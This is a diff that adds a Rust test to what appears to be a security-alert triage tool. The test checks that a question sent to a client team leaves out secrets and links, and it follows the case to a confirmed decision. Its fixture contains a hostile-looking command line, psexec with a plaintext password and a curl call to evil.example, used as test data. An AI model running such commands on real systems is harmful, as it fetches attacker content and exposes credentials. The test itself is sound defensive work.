@@ -103,6 +103,45 @@ fn no_report_holds_a_password_unless_asked() {
 }
 
 #[test]
+fn the_owner_gets_a_question_without_secrets_or_links() {
+    let mut alert = alert("FS01", &[10, 11]);
+    alert.processes[1].command_line =
+        Some("psexec -p Winter2026! curl http://evil.example/a".into());
+    let ask = Ask {
+        whom: "Client team".to_owned(),
+        due: crate::event::Time::parse("2026-03-12 12:00").unwrap(),
+        zone: Some(chrono_tz::Europe::Oslo),
+        from: "ana@desk".to_owned(),
+        channel: "phone".to_owned(),
+        ..Ask::default()
+    };
+    let message = ask.message(&alert);
+    assert!(
+        !message.contains("Winter2026!") && !message.contains("http://"),
+        "{message}"
+    );
+    for wanted in [
+        "Client team",
+        "2026-03-10 19:00:10 +0100 Europe/Oslo",
+        "FS01",
+        "adm[.]berg",
+        "2026-03-12 13:00:00 +0100",
+    ] {
+        assert!(message.contains(wanted), "{wanted} is not in\n{message}");
+    }
+    let mut case = Case::in_memory("ana").unwrap();
+    case.decide(&alert, ask.decision()).unwrap();
+    let triage = case.triage(&alert);
+    assert_eq!(triage.state, crate::case::State::NeedsInfo);
+    let verdict = Decision::answered(&triage, "yes, roll-out").unwrap();
+    let verdict = verdict
+        .with("ticket", "CHG-1042")
+        .citing(alert.sightings[0].event.clone());
+    case.decide(&alert, verdict).unwrap();
+    assert_eq!(case.triage(&alert).fields["confirmed_by"], "Client team");
+}
+
+#[test]
 fn hostile_record_text_acts_nowhere() {
     let mut alerts = story();
     let hostile =
